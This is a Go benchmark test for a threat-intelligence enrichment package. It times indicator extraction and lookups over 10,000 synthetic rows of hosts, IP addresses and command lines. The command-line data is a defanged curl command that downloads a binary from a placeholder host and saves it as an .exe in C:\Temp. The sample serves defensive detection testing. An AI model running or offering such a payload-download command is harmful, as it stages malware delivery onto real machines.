package enrich

import (
	"context"
	"fmt"
	"testing"

	"github.com/msticgo/msticgo/lookup"
	"github.com/msticgo/msticgo/table"
)

// BenchmarkFrame10k enriches 10,000 query rows holding 500 distinct public
// addresses and 50 command lines (indicators extracted from them) through
// the lookup engine with a provider that answers instantly: the cost of
// column scanning, extraction, de-duplication, the lookups and the added
// columns, per query row.
func BenchmarkFrame10k(b *testing.B) {
	const rows = 10000
	f := table.New(table.Column{Name: "Computer", Type: table.String}, table.Column{Name: "DestIP", Type: table.String},
		table.Column{Name: "CommandLine", Type: table.String}, table.Column{Name: "Bytes", Type: table.Int})
	for i := range rows {
		f.Append(fmt.Sprintf("WS-%03d", i%40), fmt.Sprintf("203.0.%d.%d", (i%500)/250, i%250+1),
			fmt.Sprintf("curl -s hxxps://cdn%d.example[.]org/p.bin -o C:\\Temp\\p%d.exe", i%50, i%50), int64(i))
	}
	p := &listProvider{hits: map[string]lookup.Severity{"203.0.0.7": lookup.SevHigh}}
	p.seen = map[string]int{}
	eng := lookup.NewEngine([]lookup.ProviderSpec{{Name: "Alpha", Provider: p, Primary: true}}, lookup.Options{Prepare: lookup.IOCPreparer})
	defer eng.Close()
	ctx := context.Background()
	opt := Options{Columns: []string{"DestIP", "CommandLine"}}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Frame(ctx, eng, f, opt); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*rows)/1000, "µs/row")
}
